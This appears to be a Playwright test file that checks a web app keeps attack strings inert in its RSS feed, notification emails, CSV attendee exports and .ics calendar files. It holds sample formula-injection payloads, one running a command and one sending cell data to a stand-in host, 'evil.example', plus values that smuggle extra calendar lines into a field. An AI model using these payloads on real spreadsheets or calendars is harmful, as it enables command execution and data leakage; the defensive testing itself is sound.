import { randomUUID } from 'node:crypto'
import type { Page } from '@playwright/test'
import { attackedTitles, attacks } from './attack-texts.ts'
import { attacker, cut, when } from './attacked-items.ts'
import { expectHarmlessPage, listenForAttacks } from './harmless-page.ts'
import { serverAnswers } from './interception/server-holds.ts'
import { ADMIN, expect, test } from './journey.ts'
import { headersOf, htmlOf } from './mail-parts.ts'
import {
  callApi,
  callApiAsAdmin,
  mailTo,
  newMember,
  newSignup,
  signInWithoutForm,
  tokenOf,
} from './people.ts'
import { newBlog } from './writing.ts'

/**
 * A spreadsheet runs cells that begin with these characters. The wide characters count where people write Chinese or Japanese.
 */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example?"&A1,"x")`,
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u200b=1+1',
]
const DOWNLOAD = /^attachment; filename="[\w-]+(?:\.[\w-]+)*"$/

/** Opens markup that leaves the site as an outside reader does: on a page without our content security policy. */
async function read(page: Page, html: string) {
  const headers = { 'content-type': 'text/html; charset=utf-8' }
  await serverAnswers(page, '/reader', html, { headers, times: 1 })
  await page.goto('/reader')
}
const get = (path: string) => fetch(process.env.E2E_URL + path)

test('SAFE-132 safety X3 attacks in the feed stay text in a reader without a policy, and its XML whole', async ({
  page,
}) => {
  const heard = await listenForAttacks(page)
  // The number of entries that the feed holds.
  const titles = attacks
    .filter((_, at) => at % 5 === 0)
    .slice(0, 30)
    .map((text) => cut(text, 200))
  const share = Math.ceil(attacks.length / titles.length)
  for (const [at, title] of titles.entries()) {
    const content = attacks.slice(at * share, (at + 1) * share).join('\n\n') || title
    await newBlog({
      title,
      author: cut(title, 100),
      category: cut(title, 40),
      tags: [cut(title, 40)],
      content,
    })
  }
  await page.goto('/dashboard/blogs')
  const feed = await page.evaluate(async () => {
    const text = await (await fetch('/blogs/feed.xml')).text()
    const xml = new DOMParser().parseFromString(text, 'application/xml')
    const texts = (name: string) => Array.from(xml.getElementsByTagName(name), (one) => one.textContent ?? '')
    return {
      broken: texts('parsererror'),
      names: [...new Set(Array.from(xml.querySelectorAll('item > *'), (one) => one.nodeName))].sort(),
      titles: texts('title').slice(1),
      links: texts('link').slice(1),
      bodies: texts('content:encoded'),
    }
  })
  expect(feed.broken).toEqual([])
  const names = ['category', 'content:encoded', 'dc:creator', 'guid', 'link', 'pubDate', 'title']
  expect(feed.names).toEqual(names)
  // Parallel journeys publish attacks as well.
  const written = (text: string) =>
    text
      .replace(/[\u202a-\u202e\u2066-\u2069]/g, '')
      .replace(/[\s\p{Cc}]+/gu, ' ')
      .trim()
  const known = new Set([...attacks, ...attackedTitles].map((text) => written(cut(text, 200))))
  expect(feed.titles).toHaveLength(30)
  expect(feed.titles.map(written).filter((title) => !known.has(title))).toEqual([])
  for (const body of feed.bodies) {
    await read(page, `<!doctype html><main class="prose">${body}</main>`)
    await expectHarmlessPage(page)
  }
  expect(heard).toEqual([])

  // A link preview on another site shows the words unchanged, and a picture.
  for (const link of feed.links) {
    const path = new URL(link).pathname
    await page.goto(path)
    const title = await page.locator('h1').textContent()
    const of = (name: string) => page.locator(`head > meta[property="${name}"]`)
    await expect(of('og:title')).toHaveCount(1)
    expect(await of('og:title').getAttribute('content')).toBe(title)
    const picture = new URL((await of('og:image').getAttribute('content')) ?? '')
    expect(`${picture.pathname}`).toBe(`${path}.png`)
    const data = await page.locator('script[type="application/ld+json"]').textContent()
    expect(JSON.parse(data ?? '')).toMatchObject({ headline: title, author: { name: expect.any(String) } })
    const answer = await get(picture.pathname + picture.search)
    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'image/png'])
  }
  expect(heard).toEqual([])
})

test('SAFE-132 safety X3 attacks in mails stay text, in their markup and in their headers', async ({
  page,
}) => {
  const heard = await listenForAttacks(page)
  const [asha, ravi] = [await newMember(), await newMember()]
  const [own, theirs] = [await tokenOf(asha.email), await tokenOf(ravi.email)]
  for (const [at, attack] of attacks.filter((_, index) => index % 5 === 0).entries()) {
    // Each attack becomes a name, and the title of a thread for which somebody gets a notification.
    const person = await newSignup(cut(attack, 100))
    const { data } = await callApiAsAdmin('GET', `/approvals?q=${person.email}`)
    await callApiAsAdmin('POST', `/approvals/${data[0]?._id}/${at % 2 ? 'approve' : 'decline'}`)
    const mark = randomUUID().slice(0, 8)
    const thread = { title: `${mark} ${cut(attack, 150)}`, category: 'General', content: 'Why?' }
    const { _id: id } = (await callApi('POST', '/forum/threads', thread, own)).data
    await callApi('POST', `/forum/threads/${id}/replies`, { content: 'So.' }, theirs)
    for (const mail of [await mailTo(person.email, /./), await mailTo(asha.email, new RegExp(mark))]) {
      const known =
        /^(from|to|subject|message-id|list-unsubscribe(-post)?|date|mime-version|content-type|auto-submitted|precedence)$/
      expect(
        headersOf(mail).filter((name) => !known.test(name)),
        attack,
      ).toEqual([])
      await read(page, htmlOf(mail))
      await expectHarmlessPage(page)
      const shape = await page
        .locator('body')
        .evaluate((body) => [
          ...new Set(Array.from(body.querySelectorAll('*'), ({ localName }) => localName)),
        ])
      expect(
        shape.filter((name) => !['div', 'p', 'a', 'br'].includes(name)),
        attack,
      ).toEqual([])
      const links = await page
        .locator('a')
        .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).host))
      expect(links.filter((host) => host !== new URL(process.env.E2E_URL ?? '').host)).toEqual([])
    }
  }
  expect(heard).toEqual([])
})

test('SAFE-133 no name is a formula in the list of an event, and no typed text names a download', async ({
  page,
}) => {
  await signInWithoutForm(page, ADMIN)
  const [title = ''] = attacks
  const { _id: id } = (await callApiAsAdmin('POST', '/events', { title, description: title, ...when })).data
  const names = [...FORMULAS, ...attacks.filter((text) => cut(text, 100) === text)].slice(0, 40)
  for (const name of names) {
    const { token } = await attacker(name)
    await callApi('POST', `/events/${id}/register`, {}, token)
  }
  const list = await page.request.get(`/events/${id}/attendees.csv`)
  expect(list.headers()['content-disposition']).toMatch(DOWNLOAD)
  const cells = cellsOf(await list.text())
  expect(cells).toHaveLength(names.length + 1)
  for (const row of cells) {
    expect(row).toHaveLength(4)
    for (const cell of row) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u)
  }
  const slug = `attacked-${randomUUID()}`
  await callApiAsAdmin('POST', '/admin/problems', { slug })
  for (const path of [
    `/events/${id}.ics`,
    `/dashboard/problems/${slug}/package.zip`,
    '/api/v1/members/me/export',
  ]) {
    const answer = await page.request.get(path)
    expect([path, answer.status()]).toEqual([path, 200])
    expect(answer.headers()['content-disposition'], path).toMatch(DOWNLOAD)
    expect(answer.headers()['x-content-type-options'], path).toBe('nosniff')
  }
})

test('SAFE-132 attacks in an event begin no line of its calendar file', async () => {
  const lines =
    /^(BEGIN:V(CALENDAR|EVENT)|END:V(CALENDAR|EVENT)|VERSION:2\.0|PRODID:|METHOD:PUBLISH|UID:|DTSTAMP:|SEQUENCE:|DTSTART:|DTEND:|SUMMARY:|DESCRIPTION:|LOCATION:|URL:http|STATUS:| )/
  for (const attack of [...attacks, 'x\r\nATTACH:https://evil.example/x', 'x\nEND:VEVENT\rBEGIN:VALARM']) {
    const title = cut(attack, 200)
    const given = { title, description: `${attack}\r\nATTACH:x`, location: title, ...when }
    const { _id: id } = (await callApiAsAdmin('POST', '/events', given)).data
    const file = await (await get(`/events/${id}.ics`)).text()
    expect(
      file.split('\r\n').filter((line) => line && !lines.test(line)),
      attack,
    ).toEqual([])
    expect(file.match(/^BEGIN:/gm)).toHaveLength(2)
    expect(file, attack).not.toMatch(/[^\r]\n|\r[^\n]/)
  }
})

/** The rows of a CSV file, as a spreadsheet reads them. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, end] of text.replace(/^\ufeff/, '').matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)) {
    rows.at(-1)?.push((quoted ?? '').replaceAll('""', '"'))
    if (end !== ',') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}
